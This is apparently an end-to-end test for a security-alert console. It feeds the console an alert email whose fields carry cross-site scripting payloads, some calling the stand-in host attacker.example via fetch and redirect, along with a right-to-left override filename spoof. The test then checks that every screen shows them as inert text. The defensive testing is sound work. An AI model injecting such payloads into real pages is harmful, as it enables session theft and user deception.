import { Owl } from '../harness';
import { ConsoleBrowser } from '../harness/browser';

const AWAY = 'http://attacker.example';
const IMAGE = `<img src=${AWAY}/x onerror="window.taken=1;fetch('${AWAY}/y')">`;
const SCRIPT = `<script>window.taken=2;location='${AWAY}'</script>`;
const MARKUP = `</pre></textarea><svg onload="window.taken=3"><a href="javascript:window.taken=4">open</a>`;
// Right-to-left override and isolate: what follows would be shown backwards, "fdp.exe" as "exe.pdf".
const BIDI = '‮fdp.exe⁦‏';

/** A model breach as the appliance writes it, every text of it hostile. */
function hostileMail(): Buffer {
  const breach = {
    pbid: 66_601,
    time: Date.parse('2026-11-20T00:59:00Z'),
    model: { name: `Compromise::${SCRIPT}${BIDI}`, description: MARKUP, uuid: '80010119-6d7f-0000-0305-5e0000000666' },
    score: 0.91,
    device: { did: 1, ip: '172.16.6.6', hostname: IMAGE, devicelabel: `${IMAGE}${BIDI}` },
    triggeredComponents: [
      {
        time: Date.parse('2026-11-20T00:59:00Z'),
        metric: { name: 'm', label: IMAGE },
        triggeredFilters: [
          {
            filterType: 'Connection hostname',
            comparatorType: 'display',
            trigger: { value: `${SCRIPT}${BIDI}.example` },
          },
          { filterType: 'Message', comparatorType: 'display', trigger: { value: `${MARKUP}${BIDI}` } },
        ],
      },
    ],
    breachUrl: `https://darktrace.example/#modelbreach/66601"onmouseover="window.taken=5`,
  };
  const head = [
    'From: "Appliance" <appliance@darktrace.example>',
    `Subject: =?UTF-8?B?${Buffer.from(`${IMAGE}${SCRIPT}${BIDI}`).toString('base64')}?=`,
    'Message-ID: <hostile-1@darktrace.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
  ];
  return Buffer.from(`${head.join('\r\n')}\r\n\r\n${JSON.stringify(breach, null, 1)}\r\n`);
}

describe('an alert mail that attacks the console', () => {
  let owl: Owl;
  let browser: ConsoleBrowser;
  beforeAll(async () => {
    owl = await Owl.start({ at: '2026-11-20 10:00' });
    browser = await ConsoleBrowser.open(owl);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await owl?.stop();
  });

  it('is text on every screen: nothing runs, nothing leaves, nothing is shown backwards', () =>
    browser.watches(async () => {
      const customer = await owl.enrol();
      await owl.appliance(customer).sends(hostileMail());
      const analyst = await owl.signsIn('analyst');
      const { id } = await analyst.seesCase('66601');
      await analyst.move(id, 'claim');
      await analyst.post(`/cases/${id}/report`, {});
      const seat = await browser.signsIn('analyst');
      const [{ id: mail }, { id: alert }] = [await first('/mails'), await first('/alerts')];

      const screens: [path: string, testId: string][] = [
        ['/queue', 'queue'],
        [`/cases/${id}`, 'preview-body'],
        [`/alerts?open=${alert}`, 'alert-card'],
        [`/mail?open=${mail}`, 'mail-text'],
      ];
      for (const [path, testId] of screens) {
        await seat.page.goto(path);
        await seat.at(testId).waitFor();
        await seat.settles();
        const found = await seat.page.evaluate(() => ({
          text: document.body.innerText,
          made: document.querySelectorAll('img[onerror], svg[onload], a[href^="javascript:"], body script').length,
          taken: 'taken' in window,
        }));
        expect(found.text).toContain('<img src=');
        expect(found.text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/);
        expect(found).toMatchObject({ made: 0, taken: false });
      }
      await seat.at('mail-source-tab').click();
      await seat.at('mail-source').filter({ hasText: 'window.taken=4' }).waitFor();
      expect(await seat.page.evaluate(() => 'taken' in window)).toBe(false);
      expect(seat.troubles).toEqual([]);

      async function first(path: string): Promise<{ id: string }> {
        const { items } = await analyst.get<{ items: { id: string }[] }>(path);
        return items[0]!;
      }
    }));
});
